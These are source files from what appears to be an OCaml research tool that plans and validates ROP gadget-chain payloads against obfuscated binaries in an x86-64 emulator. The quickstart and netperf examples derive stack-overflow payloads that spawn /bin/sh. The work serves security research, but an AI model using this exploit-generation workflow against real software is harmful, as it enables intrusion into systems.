    errno (execution continuing) when their arguments are garbage — so
    chains may legitimately pass through syscall instructions. *)

type attack =
  | Execve of { path : string; argv : int64; envp : int64 }
  | Mprotect of { addr : int64; len : int64; prot : int64 }
  | Mmap of { addr : int64; len : int64; prot : int64 }

type outcome =
  | Exited of int64          (** exit(2) status *)
  | Attacked of attack       (** an attack syscall fired *)
  | Fault of string          (** unmapped access / undecodable fetch *)
  | Timeout                  (** fuel exhausted *)

type t = {
  mem : Memory.t;
  regs : int64 array;
  mutable rip : int64;
  mutable zf : bool;
  mutable sf : bool;
  mutable cf : bool;
  mutable of_ : bool;
  mutable pf : bool;
  mutable output : Buffer.t;
  mutable steps : int;
  mutable trace : int64 list;   (** reversed rip trace when tracing *)
  mutable indirects : (int64 * int64) list;
      (** (site, target) of each indirect jump/call taken, reversed —
          the observations a CFI monitor would check *)
  tracing : bool;
}

(** {1 Memory layout constants} *)

val stack_base : int64
val stack_size : int
val stack_top : int64
val scratch_base : int64
val scratch_size : int

val scratch_pool : int64 list
(** Addresses safe for attacker-controlled pointer arguments (kept in
    sync with the solver's default pool). *)

(** {1 State access} *)

val reg : t -> Gp_x86.Reg.t -> int64
val set_reg : t -> Gp_x86.Reg.t -> int64 -> unit
val rsp : t -> int64
val set_rsp : t -> int64 -> unit
val output : t -> string
(** Bytes the program wrote to stdout via write(2). *)

(** {1 Execution} *)

val create : ?tracing:bool -> Gp_util.Image.t -> t
(** Map the image plus stack and scratch regions; rip at the entry
    point, rsp near the stack top with generous headroom. *)

exception Halt of outcome
(** Used internally; escapes only from {!step}. *)

val step : t -> unit
(** Fetch-decode-execute one instruction.  Raises {!Halt} at a run-ending
    event and [Memory.Fault] on a bad access. *)

val chaos_fuse : (unit -> int option) ref
(** Fault-injection hook, consulted once per {!run}: [Some n] arms a
    synthetic memory fault after [n] steps, simulating latent corruption
    mid-execution.  Defaults to never firing; installed/removed by the
    harness ([Gp_harness.Faultsim]). *)

val chaos_fuse_keyed : (int -> int option) ref
(** Keyed fault-injection hook, consulted instead of {!chaos_fuse} when
    {!run} is given a [fuse_key]: the decision is a pure function of the
    key (payload validation keys on the chain), so a schedule fires
    identically under any domain count or validation order. *)

val run : ?fuel:int -> ?fuse_key:int -> t -> outcome
(** Step until halt, fault, or [fuel] instructions (default 5M).  Fuel
    exhaustion is reported as the distinct {!Timeout} outcome — callers
    must not conflate it with {!Fault}, which means the chain actually
    crashed.  [fuse_key] routes fault injection through
    {!chaos_fuse_keyed} (order-independent) rather than the streamed
    {!chaos_fuse}. *)

val run_image : ?fuel:int -> ?tracing:bool -> Gp_util.Image.t -> outcome * t
(** Convenience: load and run to completion. *)
