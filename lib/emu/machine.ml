(* Concrete x86-64 emulator.

   Plays the role of the victim machine: it runs compiled corpus programs
   (so obfuscation passes can be differentially tested for semantic
   preservation) and executes attacker payloads end-to-end (so a
   "payload" only counts if the goal syscall is actually observed with
   the goal arguments — see DESIGN.md "validation-first").

   The syscall model traps the three attack syscalls from the paper
   (execve / mprotect / mmap-family) and halts with an [Attacked]
   outcome carrying the argument registers. *)

open Gp_x86

type attack =
  | Execve of { path : string; argv : int64; envp : int64 }
  | Mprotect of { addr : int64; len : int64; prot : int64 }
  | Mmap of { addr : int64; len : int64; prot : int64 }

type outcome =
  | Exited of int64
  | Attacked of attack
  | Fault of string
  | Timeout

type t = {
  mem : Memory.t;
  regs : int64 array;                  (* indexed by Reg.number *)
  mutable rip : int64;
  mutable zf : bool;
  mutable sf : bool;
  mutable cf : bool;
  mutable of_ : bool;
  mutable pf : bool;
  mutable output : Buffer.t;           (* bytes written via write(2) *)
  mutable steps : int;
  mutable trace : int64 list;          (* reversed rip trace when tracing *)
  mutable indirects : (int64 * int64) list;
    (* (site, target) of every indirect jump/call taken, reversed *)
  tracing : bool;
}

let stack_base = 0x7ff0000L
let stack_size = 1 lsl 20
let stack_top = Int64.add stack_base (Int64.of_int stack_size)
let scratch_base = 0x700000L
let scratch_size = 1 lsl 16

(* Addresses safe for attacker-controlled pointer arguments: the scratch
   region.  Keep in sync with Smt.Solver.default_pool. *)
let scratch_pool = [ 0x700000L; 0x700100L; 0x700200L ]

let reg t r = t.regs.(Reg.number r)
let set_reg t r v = t.regs.(Reg.number r) <- v

let rsp t = reg t Reg.RSP
let set_rsp t v = set_reg t Reg.RSP v

let create ?(tracing = false) (image : Gp_util.Image.t) =
  let mem = Memory.create () in
  Memory.map_bytes mem "code" image.Gp_util.Image.code_base image.Gp_util.Image.code;
  Memory.map_bytes mem "data" image.Gp_util.Image.data_base image.Gp_util.Image.data;
  Memory.map mem "stack" stack_base stack_size;
  Memory.map mem "scratch" scratch_base scratch_size;
  let t =
    { mem;
      regs = Array.make 16 0L;
      rip = image.Gp_util.Image.entry;
      zf = false; sf = false; cf = false; of_ = false; pf = false;
      output = Buffer.create 64;
      steps = 0;
      trace = [];
      indirects = [];
      tracing }
  in
  (* leave generous headroom above rsp: exploit payloads may extend well
     past the smashed frame (pinned-pointer cells) *)
  set_rsp t (Int64.sub stack_top 0x10000L);
  t

let output t = Buffer.contents t.output

(* ----- flags ----- *)

(* unsigned < on int64 *)
let ult a b =
  Int64.compare (Int64.add a Int64.min_int) (Int64.add b Int64.min_int) < 0

let parity_of v =
  let b = Int64.to_int (Int64.logand v 0xffL) in
  let rec go acc b = if b = 0 then acc else go (acc lxor (b land 1)) (b lsr 1) in
  go 1 b = 1   (* PF set when even number of 1 bits *)

let set_logic_flags t r =
  t.zf <- r = 0L;
  t.sf <- Int64.compare r 0L < 0;
  t.cf <- false;
  t.of_ <- false;
  t.pf <- parity_of r

let set_add_flags t a b r =
  t.zf <- r = 0L;
  t.sf <- Int64.compare r 0L < 0;
  t.pf <- parity_of r;
  (* unsigned carry: r <u a  (when b <> 0) *)
  t.cf <- ult r a || (b <> 0L && r = a);
  t.of_ <- Int64.compare a 0L < 0 = (Int64.compare b 0L < 0)
           && Int64.compare r 0L < 0 <> (Int64.compare a 0L < 0)

and set_sub_flags t a b r =
  t.zf <- r = 0L;
  t.sf <- Int64.compare r 0L < 0;
  t.pf <- parity_of r;
  t.cf <- ult a b;
  t.of_ <- Int64.compare a 0L < 0 <> (Int64.compare b 0L < 0)
           && Int64.compare r 0L < 0 <> (Int64.compare a 0L < 0)

let eval_cond t (c : Insn.cond) =
  match c with
  | Insn.O -> t.of_
  | Insn.NO -> not t.of_
  | Insn.B -> t.cf
  | Insn.AE -> not t.cf
  | Insn.E -> t.zf
  | Insn.NE -> not t.zf
  | Insn.BE -> t.cf || t.zf
  | Insn.A -> (not t.cf) && not t.zf
  | Insn.S -> t.sf
  | Insn.NS -> not t.sf
  | Insn.P -> t.pf
  | Insn.NP -> not t.pf
  | Insn.L -> t.sf <> t.of_
  | Insn.GE -> t.sf = t.of_
  | Insn.LE -> t.zf || t.sf <> t.of_
  | Insn.G -> (not t.zf) && t.sf = t.of_

(* ----- operand access ----- *)

let mem_addr t (m : Insn.mem) = Int64.add (reg t m.Insn.base) (Int64.of_int m.Insn.disp)

let read_operand t (op : Insn.operand) =
  match op with
  | Insn.Reg r -> reg t r
  | Insn.Imm i -> i
  | Insn.Mem m -> Memory.read64 t.mem (mem_addr t m)

let write_operand t (op : Insn.operand) v =
  match op with
  | Insn.Reg r -> set_reg t r v
  | Insn.Mem m -> Memory.write64 t.mem (mem_addr t m) v
  | Insn.Imm _ -> raise (Memory.Fault "write to immediate operand")

let push t v =
  set_rsp t (Int64.sub (rsp t) 8L);
  Memory.write64 t.mem (rsp t) v

let pop t =
  let v = Memory.read64 t.mem (rsp t) in
  set_rsp t (Int64.add (rsp t) 8L);
  v

(* ----- syscall model ----- *)

exception Halt of outcome

(* Linux-style behaviour: syscalls with garbage arguments FAIL with a
   negative errno and execution continues (a chain may legitimately pass
   through a syscall instruction with junk registers on its way to the
   goal); only well-formed attack syscalls trigger the Attacked halt. *)
let do_syscall t =
  let nr = reg t Reg.RAX in
  let a1 = reg t Reg.RDI and a2 = reg t Reg.RSI and a3 = reg t Reg.RDX in
  let efault = -14L and einval = -22L and enoent = -2L in
  match Int64.to_int nr with
  | 1 ->
    (* write(fd, buf, len) *)
    let len = Int64.to_int a3 in
    if len < 0 || len > 1 lsl 20 then set_reg t Reg.RAX efault
    else (
      match Memory.read_bytes t.mem a2 len with
      | bytes ->
        Buffer.add_bytes t.output bytes;
        set_reg t Reg.RAX a3
      | exception Memory.Fault _ -> set_reg t Reg.RAX efault)
  | 60 -> raise (Halt (Exited a1))
  | 59 -> (
    match Memory.read_cstring t.mem a1 with
    | path when String.length path > 0 && path.[0] = '/' ->
      (* an executable path: the exec succeeds *)
      raise (Halt (Attacked (Execve { path; argv = a2; envp = a3 })))
    | _ -> set_reg t Reg.RAX enoent
    | exception Memory.Fault _ -> set_reg t Reg.RAX efault)
  | 10 ->
    (* mprotect: requires a page-aligned, mapped address and sane length *)
    if
      Int64.logand a1 0xfffL = 0L
      && Memory.is_mapped t.mem a1
      && a2 > 0L && a2 <= 0x10000000L
    then raise (Halt (Attacked (Mprotect { addr = a1; len = a2; prot = a3 })))
    else set_reg t Reg.RAX einval
  | 9 | 25 ->
    (* mmap/mremap: an attack when mapping executable memory *)
    if a2 > 0L && a2 <= 0x10000000L && Int64.logand a3 4L <> 0L then
      raise (Halt (Attacked (Mmap { addr = a1; len = a2; prot = a3 })))
    else set_reg t Reg.RAX einval
  | _ -> set_reg t Reg.RAX 0L

(* ----- stepping ----- *)

let fetch t =
  (* instructions are at most 15 bytes; read through memory so that
     self-modified code is fetched as written *)
  let window = Bytes.create 15 in
  let avail = ref 0 in
  (try
     for k = 0 to 14 do
       Bytes.set_uint8 window k (Memory.read8 t.mem (Int64.add t.rip (Int64.of_int k)));
       incr avail
     done
   with Memory.Fault _ -> ());
  if !avail = 0 then raise (Halt (Fault (Printf.sprintf "fetch fault at 0x%Lx" t.rip)));
  match Decode.decode ~limit:!avail window 0 with
  | Some (insn, len) -> (insn, len)
  | None ->
    raise
      (Halt
         (Fault
            (Printf.sprintf "undecodable instruction at 0x%Lx: %s" t.rip
               (Gp_util.Hex.of_bytes (Bytes.sub window 0 (min 8 !avail))))))

let exec t insn len =
  let next = Int64.add t.rip (Int64.of_int len) in
  t.rip <- next;
  match insn with
  | Insn.Nop -> ()
  | Insn.Mov (d, s) -> write_operand t d (read_operand t s)
  | Insn.Movabs (r, i) -> set_reg t r i
  | Insn.Lea (r, m) -> set_reg t r (mem_addr t m)
  | Insn.Push r -> push t (reg t r)
  | Insn.PushImm i -> push t (Int64.of_int i)
  | Insn.Pop r -> set_reg t r (pop t)
  | Insn.Add (d, s) ->
    let a = read_operand t d and b = read_operand t s in
    let r = Int64.add a b in
    set_add_flags t a b r;
    write_operand t d r
  | Insn.Sub (d, s) ->
    let a = read_operand t d and b = read_operand t s in
    let r = Int64.sub a b in
    set_sub_flags t a b r;
    write_operand t d r
  | Insn.And_ (d, s) ->
    let r = Int64.logand (read_operand t d) (read_operand t s) in
    set_logic_flags t r;
    write_operand t d r
  | Insn.Or_ (d, s) ->
    let r = Int64.logor (read_operand t d) (read_operand t s) in
    set_logic_flags t r;
    write_operand t d r
  | Insn.Xor (d, s) ->
    let r = Int64.logxor (read_operand t d) (read_operand t s) in
    set_logic_flags t r;
    write_operand t d r
  | Insn.Cmp (d, s) ->
    let a = read_operand t d and b = read_operand t s in
    set_sub_flags t a b (Int64.sub a b)
  | Insn.Test (a, b) -> set_logic_flags t (Int64.logand (reg t a) (reg t b))
  | Insn.Imul (d, s) ->
    let r = Int64.mul (reg t d) (reg t s) in
    set_logic_flags t r;
    set_reg t d r
  | Insn.Shl (r, n) ->
    let v = Int64.shift_left (reg t r) (n land 63) in
    set_logic_flags t v;
    set_reg t r v
  | Insn.Shr (r, n) ->
    let v = Int64.shift_right_logical (reg t r) (n land 63) in
    set_logic_flags t v;
    set_reg t r v
  | Insn.Sar (r, n) ->
    let v = Int64.shift_right (reg t r) (n land 63) in
    set_logic_flags t v;
    set_reg t r v
  | Insn.Inc r ->
    let a = reg t r in
    let v = Int64.add a 1L in
    let cf = t.cf in
    set_add_flags t a 1L v;
    t.cf <- cf;  (* inc leaves CF untouched *)
    set_reg t r v
  | Insn.Dec r ->
    let a = reg t r in
    let v = Int64.sub a 1L in
    let cf = t.cf in
    set_sub_flags t a 1L v;
    t.cf <- cf;
    set_reg t r v
  | Insn.Neg r ->
    let a = reg t r in
    let v = Int64.neg a in
    set_sub_flags t 0L a v;
    set_reg t r v
  | Insn.Not_ r -> set_reg t r (Int64.lognot (reg t r))
  | Insn.Xchg (a, b) ->
    let va = reg t a and vb = reg t b in
    set_reg t a vb;
    set_reg t b va
  | Insn.Jmp rel -> t.rip <- Int64.add next (Int64.of_int rel)
  | Insn.JmpReg r ->
    let site = Int64.sub next (Int64.of_int len) in
    t.rip <- reg t r;
    t.indirects <- (site, t.rip) :: t.indirects
  | Insn.JmpMem m ->
    let site = Int64.sub next (Int64.of_int len) in
    t.rip <- Memory.read64 t.mem (mem_addr t m);
    t.indirects <- (site, t.rip) :: t.indirects
  | Insn.Jcc (c, rel) -> if eval_cond t c then t.rip <- Int64.add next (Int64.of_int rel)
  | Insn.Call rel ->
    push t next;
    t.rip <- Int64.add next (Int64.of_int rel)
  | Insn.CallReg r ->
    let site = Int64.sub next (Int64.of_int len) in
    push t next;
    t.rip <- reg t r;
    t.indirects <- (site, t.rip) :: t.indirects
  | Insn.CallMem m ->
    let site = Int64.sub next (Int64.of_int len) in
    push t next;
    t.rip <- Memory.read64 t.mem (mem_addr t m);
    t.indirects <- (site, t.rip) :: t.indirects
  | Insn.Ret -> t.rip <- pop t
  | Insn.RetImm n ->
    t.rip <- pop t;
    set_rsp t (Int64.add (rsp t) (Int64.of_int n))
  | Insn.Leave ->
    set_rsp t (reg t Reg.RBP);
    set_reg t Reg.RBP (pop t)
  | Insn.Syscall -> do_syscall t
  | Insn.Int3 -> raise (Halt (Fault "int3"))
  | Insn.Hlt -> raise (Halt (Fault "hlt reached"))

let step t =
  if t.tracing then t.trace <- t.rip :: t.trace;
  let insn, len = fetch t in
  exec t insn len;
  t.steps <- t.steps + 1

(* Fault-injection hook: when armed, [run] trips a synthetic memory
   fault after the returned number of steps, simulating a latent
   corruption mid-execution.  The emulator sits below Gp_core, so the
   harness installs the fuse here directly (see Gp_harness.Faultsim).
   Consulted once per [run]; [None] (the default) never fires. *)
let chaos_fuse : (unit -> int option) ref = ref (fun () -> None)

(* Keyed variant for callers that can name the run (payload validation
   keys on the chain): the decision becomes a pure function of the key,
   so an injection schedule is order-independent — identical under any
   domain count — where the streamed [chaos_fuse] depends on how many
   runs happened before this one. *)
let chaos_fuse_keyed : (int -> int option) ref = ref (fun _ -> None)

let run ?(fuel = 5_000_000) ?fuse_key t =
  let fuse =
    match fuse_key with
    | Some key -> !chaos_fuse_keyed key
    | None -> !chaos_fuse ()
  in
  try
    let k = ref 0 in
    while !k < fuel do
      (match fuse with
       | Some n when !k = n -> raise (Memory.Fault "injected fault")
       | _ -> ());
      step t;
      incr k
    done;
    Timeout
  with
  | Halt o -> o
  | Memory.Fault m -> Fault m

(* Convenience: load an image and run it to completion. *)
let run_image ?fuel ?tracing image =
  let t = create ?tracing image in
  let outcome = run ?fuel t in
  (outcome, t)
