# Convenience targets around dune.  `make check` is the CI entry point:
# a full build (the dev profile promotes the standard warning set to
# errors) plus the test suite under a wall-clock cap, so a hung planner
# test fails fast instead of wedging CI.
#
# `make check-par` re-runs the suite at JOBS=1 and JOBS=4: the
# differential tests in test_par compare each job count against the
# sequential pipeline, so the two sweeps together pin down the
# determinism contract (DESIGN.md "Parallel execution & determinism").
#
# `make check-plan-par` sweeps just the stage 3-4 suite (test_plan_par:
# portfolio planning, parallel validation, hash-consing) at JOBS=1 and
# JOBS=4 via the SUITES filter in test_main — the cheap spot-check for
# planner changes; `make check` runs both sweeps.
#
# `make check-incr` sweeps the incremental-store suite (test_incr:
# cache_dir differential, serialization round-trips, corrupt/stale
# store demotion — DESIGN.md §11) the same way.
#
# `make check-screen` runs the solver-screening suite (test_screen:
# screening-on vs screening-off differential over the 21-cell survey at
# jobs 1 and 4, counter determinism, fault sweeps — DESIGN.md §12), and
# `make check-bench` smoke-tests the benchmark harness end to end in
# `--quick` mode (one program, one config, every experiment — including
# the resume smoke, which exercises crash injection + recovery).
#
# `make check-resume` sweeps the crash-safety surface (DESIGN.md §13):
# the WAL truncation/bit-flip properties and lock tests in test_util,
# the supervised-runner + checkpoint-manifest suite in test_runner, and
# the crash-injection differential in test_resilience (kill the sweep
# at each durability point, resume, require bit-identical results) at
# JOBS=1 and JOBS=4.
#
# `make check-sweep` sweeps the pipelined corpus scheduler (test_sweep:
# deque/DAG property tests, 4-domain shared-state stress, and the
# DAG-vs-sequential-loop byte differential incl. fault injection and
# crash/resume — DESIGN.md §14) at JOBS=1 and JOBS=4.
#
# `make check-serve` sweeps the analysis daemon (test_serve: frame-codec
# totality properties, sharded-table vs single-lock equivalence, and the
# daemon-vs-CLI round-trip byte differential incl. the wire-fault sweep,
# lock demotion and crash/abandon — DESIGN.md §15) at JOBS=1 and JOBS=4.
#
# `make check-compose` sweeps the suffix-compositional summarizer
# (test_compose: extend-vs-monolithic qcheck differential, the full
# harvest differential compose-on vs --no-compose incl. fault
# injection, and the suffix-store round-trip/transfer tests —
# DESIGN.md §16) at JOBS=1 and JOBS=4.
#
# `make check-fp` sweeps the semantic fingerprint index (test_fp:
# lane-vs-Term.eval qcheck soundness, fingerprint-inequality implies
# prove_equal=false, the fp-on vs --no-fp differential over the survey
# cells incl. a 10% fault-injection sweep, the fp-section store
# round-trip and v2-store stale demotion — DESIGN.md §17) at JOBS=1
# and JOBS=4.

CHECK_TIMEOUT ?= 600

.PHONY: all build test check check-par check-plan-par check-incr \
	check-screen check-resume check-sweep check-serve check-compose \
	check-fp check-bench clean

all: build

build:
	dune build @all

test:
	dune runtest

check: build check-par check-plan-par check-incr check-screen \
	check-resume check-sweep check-serve check-compose check-fp \
	check-bench

check-par:
	JOBS=1 timeout $(CHECK_TIMEOUT) dune runtest --force
	JOBS=4 timeout $(CHECK_TIMEOUT) dune runtest --force

check-plan-par:
	dune build test/test_main.exe
	SUITES=plan_par JOBS=1 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe
	SUITES=plan_par JOBS=4 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe

check-incr:
	dune build test/test_main.exe
	SUITES=incr JOBS=1 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe
	SUITES=incr JOBS=4 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe

check-screen:
	dune build test/test_main.exe
	SUITES=screen timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe

check-resume:
	dune build test/test_main.exe
	SUITES=util,runner,resilience JOBS=1 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe
	SUITES=util,runner,resilience JOBS=4 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe

check-sweep:
	dune build test/test_main.exe
	SUITES=sweep JOBS=1 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe
	SUITES=sweep JOBS=4 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe

check-serve:
	dune build test/test_main.exe
	SUITES=serve JOBS=1 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe
	SUITES=serve JOBS=4 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe

check-compose:
	dune build test/test_main.exe
	SUITES=compose JOBS=1 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe
	SUITES=compose JOBS=4 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe

check-fp:
	dune build test/test_main.exe
	SUITES=fp JOBS=1 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe
	SUITES=fp JOBS=4 timeout $(CHECK_TIMEOUT) ./_build/default/test/test_main.exe

check-bench:
	dune build bench/main.exe
	timeout $(CHECK_TIMEOUT) ./_build/default/bench/main.exe --quick

clean:
	dune clean
	rm -rf .gp-cache
