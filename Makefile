# Convenience targets around dune.  `make check` is the CI entry point:
# a full build (the dev profile promotes the standard warning set to
# errors) plus the test suite under a wall-clock cap, so a hung planner
# test fails fast instead of wedging CI.

CHECK_TIMEOUT ?= 600

.PHONY: all build test check clean

all: build

build:
	dune build @all

test:
	dune runtest

check:
	dune build @all
	timeout $(CHECK_TIMEOUT) dune runtest --force

clean:
	dune clean
