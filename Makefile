# Convenience targets around dune.  `make check` is the CI entry point:
# a full build (the dev profile promotes the standard warning set to
# errors) plus the test suite under a wall-clock cap, so a hung planner
# test fails fast instead of wedging CI.
#
# `make check-par` re-runs the suite at JOBS=1 and JOBS=4: the
# differential tests in test_par compare each job count against the
# sequential pipeline, so the two sweeps together pin down the
# determinism contract (DESIGN.md "Parallel execution & determinism").

CHECK_TIMEOUT ?= 600

.PHONY: all build test check check-par clean

all: build

build:
	dune build @all

test:
	dune runtest

check: build check-par

check-par:
	JOBS=1 timeout $(CHECK_TIMEOUT) dune runtest --force
	JOBS=4 timeout $(CHECK_TIMEOUT) dune runtest --force

clean:
	dune clean
