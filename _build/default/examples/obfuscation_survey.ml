(* Survey: how each obfuscation method changes the gadget surface of one
   program — the per-method study behind the paper's Fig. 5.

     dune exec examples/obfuscation_survey.exe
*)

let program = Gp_corpus.Programs.find "crc_check"

let planner_config =
  { Gp_core.Planner.max_plans = 200; node_budget = 1200; time_budget = 10.;
    branch_cap = 10; goal_cap = 6; max_steps = 14 }

let survey name cfg =
  let b = Gp_harness.Workspace.build ~config_name:name ~cfg program in
  let raw = List.length (Gp_core.Extract.raw_scan b.Gp_harness.Workspace.image) in
  let payloads =
    List.fold_left
      (fun acc goal ->
        acc
        + List.length
            (Gp_core.Api.run_with_analysis ~planner_config
               b.Gp_harness.Workspace.analysis goal)
              .Gp_core.Api.chains)
      0 Gp_core.Goal.default_goals
  in
  Printf.printf "%-16s %8d bytes %6d gadgets %5d payloads\n%!" name
    (Gp_util.Image.code_size b.Gp_harness.Workspace.image)
    raw payloads

let () =
  Printf.printf "program: %s (%s)\n\n" program.Gp_corpus.Programs.name
    program.Gp_corpus.Programs.description;
  Printf.printf "%-16s %14s %14s %14s\n" "obfuscation" "code" "raw" "validated";
  survey "none" Gp_obf.Obf.none;
  List.iter
    (fun pass ->
      survey (Gp_obf.Obf.pass_name pass) (Gp_obf.Obf.single pass))
    Gp_obf.Obf.all_passes;
  survey "ollvm (all)" Gp_obf.Obf.ollvm;
  survey "tigress (all)" Gp_obf.Obf.tigress
