(* The netperf case study (paper §VI-C / Fig. 8), end to end:

   1. compile the netperf-like client with Obfuscator-LLVM-style passes;
   2. probe the break_args stack overflow with a marker pattern to find
      the saved return address (classic cyclic-pattern exploitation);
   3. plan gadget chains against the binary;
   4. deliver the payload through the '-a' option block and watch the
      emulated victim spawn /bin/sh.

     dune exec examples/netperf_case_study.exe
*)

let () =
  print_endline "== netperf case study ==";
  let b =
    Gp_harness.Workspace.build ~config_name:"llvm-obf" ~cfg:Gp_obf.Obf.ollvm
      Gp_corpus.Netperf.entry
  in
  Printf.printf "obfuscated netperf: %d bytes of code, pool of %d gadgets\n"
    (Gp_util.Image.code_size b.Gp_harness.Workspace.image)
    (Gp_core.Pool.size b.Gp_harness.Workspace.analysis.Gp_core.Api.pool);

  (* the program behaves normally on benign input *)
  let m = Gp_emu.Machine.create b.Gp_harness.Workspace.image in
  Gp_emu.Memory.write64 m.Gp_emu.Machine.mem Gp_corpus.Netperf.input_area 2L;
  (match Gp_emu.Machine.run m with
   | Gp_emu.Machine.Exited v -> Printf.printf "benign run exits with %Ld\n" v
   | _ -> failwith "benign run misbehaved");

  match
    Gp_harness.Netperf_attack.run
      ~planner_config:
        { Gp_core.Planner.max_plans = 16; node_budget = 2000; time_budget = 30.;
          branch_cap = 10; goal_cap = 6; max_steps = 14 }
      b
  with
  | None -> print_endline "probe failed"
  | Some r ->
    let probe = r.Gp_harness.Netperf_attack.probe in
    Printf.printf
      "probe: %d filler words reach the saved return address at 0x%Lx\n"
      probe.Gp_harness.Netperf_attack.filler_words
      probe.Gp_harness.Netperf_attack.ret_cell;
    Printf.printf "%d chains confirmed END TO END through break_args (paper found 16)\n"
      (List.length r.Gp_harness.Netperf_attack.chains);
    (match r.Gp_harness.Netperf_attack.chains with
     | c :: _ ->
       print_newline ();
       print_string (Gp_core.Payload.describe c);
       print_endline "\ndelivered via the '-a' option block, this payload makes";
       print_endline "the netperf client exec a shell: execve(\"/bin/sh\", 0, 0)."
     | [] -> ())
