(* Quickstart: compile a program, obfuscate it, and let Gadget-Planner
   build a validated code-reuse payload against it.

     dune exec examples/quickstart.exe
*)

let source =
  {|
int secret(int x) { return (x * 31 + 7) & 1023; }
int main() {
  int acc = 0;
  int i;
  for (i = 0; i < 10; i = i + 1) { acc = acc + secret(i); }
  print(acc);
  return acc & 127;
}
|}

let () =
  (* 1. compile with Obfuscator-LLVM-style obfuscation *)
  let image =
    Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.ollvm)
      source
  in
  Printf.printf "compiled: %d bytes of code, %d bytes of data\n"
    (Gp_util.Image.code_size image) (Gp_util.Image.data_size image);

  (* sanity: the program still runs *)
  (match Gp_emu.Machine.run_image image with
   | Gp_emu.Machine.Exited v, _ -> Printf.printf "program exits with %Ld\n" v
   | _ -> failwith "program misbehaved");

  (* 2. stages 1-2: gadget extraction + subsumption *)
  let analysis = Gp_core.Api.analyze image in
  Printf.printf "gadgets: %d harvested -> %d after subsumption\n"
    analysis.Gp_core.Api.raw_extracted
    (Gp_core.Pool.size analysis.Gp_core.Api.pool);

  (* 3. stages 3-4: plan, emit payloads, validate in the emulator *)
  let goal = Gp_core.Goal.Execve "/bin/sh" in
  let outcome =
    Gp_core.Api.run_with_analysis
      ~planner_config:
        { Gp_core.Planner.max_plans = 10; node_budget = 1500; time_budget = 20.;
          branch_cap = 10; goal_cap = 6; max_steps = 14 }
      analysis goal
  in
  Printf.printf "validated payloads: %d (planner explored %d plans)\n\n"
    (List.length outcome.Gp_core.Api.chains)
    outcome.Gp_core.Api.stats.Gp_core.Api.plans_found;
  match outcome.Gp_core.Api.chains with
  | chain :: _ ->
    print_string (Gp_core.Payload.describe chain);
    print_endline "\nthe payload above, written over a saved return address,";
    print_endline "drives the emulated victim into execve(\"/bin/sh\", 0, 0)."
  | [] -> print_endline "no payload found (try a larger budget)"
