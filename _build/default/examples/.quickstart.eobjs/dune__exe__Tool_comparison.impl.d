examples/tool_comparison.ml: Gp_baselines Gp_core Gp_corpus Gp_harness Gp_obf Gp_util List Printf
