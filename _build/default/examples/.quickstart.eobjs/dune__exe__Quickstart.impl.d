examples/quickstart.ml: Gp_codegen Gp_core Gp_emu Gp_obf Gp_util List Printf
