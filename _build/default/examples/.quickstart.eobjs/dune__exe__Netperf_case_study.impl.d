examples/netperf_case_study.ml: Gp_core Gp_corpus Gp_emu Gp_harness Gp_obf Gp_util List Printf
