examples/obfuscation_survey.ml: Gp_core Gp_corpus Gp_harness Gp_obf Gp_util List Printf
