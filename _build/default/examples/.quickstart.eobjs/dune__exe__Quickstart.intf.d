examples/quickstart.mli:
