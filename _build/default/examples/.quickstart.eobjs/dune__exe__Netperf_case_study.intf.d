examples/netperf_case_study.mli:
