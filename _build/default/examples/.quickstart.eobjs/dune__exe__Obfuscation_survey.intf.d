examples/obfuscation_survey.mli:
