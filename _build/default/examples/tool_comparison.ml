(* Tool comparison on one obfuscated binary: ROPGadget-style pattern
   matching vs Angrop-style greedy semantics vs SGC-style restricted
   synthesis vs Gadget-Planner (the paper's Table IV, in miniature).

     dune exec examples/tool_comparison.exe
*)

let () =
  let entry = Gp_corpus.Programs.find "stack_machine" in
  let b = Gp_harness.Workspace.build ~config_name:"tigress" ~cfg:Gp_obf.Obf.tigress entry in
  let image = b.Gp_harness.Workspace.image in
  let pool_list = b.Gp_harness.Workspace.analysis.Gp_core.Api.gadgets in
  Printf.printf "binary: %s under tigress-style obfuscation (%d bytes)\n\n"
    entry.Gp_corpus.Programs.name (Gp_util.Image.code_size image);
  Printf.printf "%-16s %10s %10s %10s %10s\n" "tool" "execve" "mprotect" "mmap" "total";
  let row name counts =
    let total = List.fold_left ( + ) 0 counts in
    Printf.printf "%-16s %10d %10d %10d %10d\n%!" name (List.nth counts 0)
      (List.nth counts 1) (List.nth counts 2) total
  in
  let goals = Gp_core.Goal.default_goals in
  row "ropgadget"
    (List.map
       (fun g ->
         List.length (Gp_baselines.Ropgadget.run image g).Gp_baselines.Report.chains)
       goals);
  row "angrop"
    (List.map
       (fun g ->
         List.length
           (Gp_baselines.Angrop.run ~pool:pool_list image g).Gp_baselines.Report.chains)
       goals);
  row "sgc"
    (List.map
       (fun g ->
         List.length
           (Gp_baselines.Sgc.run ~pool:pool_list image g).Gp_baselines.Report.chains)
       goals);
  row "gadget-planner"
    (List.map
       (fun g ->
         List.length
           (Gp_core.Api.run_with_analysis
              ~planner_config:
                { Gp_core.Planner.max_plans = 500; node_budget = 2000;
                  time_budget = 15.; branch_cap = 10; goal_cap = 6; max_steps = 14 }
              b.Gp_harness.Workspace.analysis g)
             .Gp_core.Api.chains)
       goals);
  print_endline "\nevery counted payload was validated by concrete execution."
