(* Tests for the symbolic executor: gadget summaries of hand-built byte
   sequences — including the paper's Fig. 4 conditional-jump scenarios,
   direct-jump merging, frame pivots, syscall continuation, and
   store-forwarding with alias hazards. *)

open Gp_x86
open Gp_smt

let image_of insns =
  Gp_util.Image.create ~entry:0x400000L ~code:(Encode.insns insns)
    ~data:(Bytes.create 16) ()

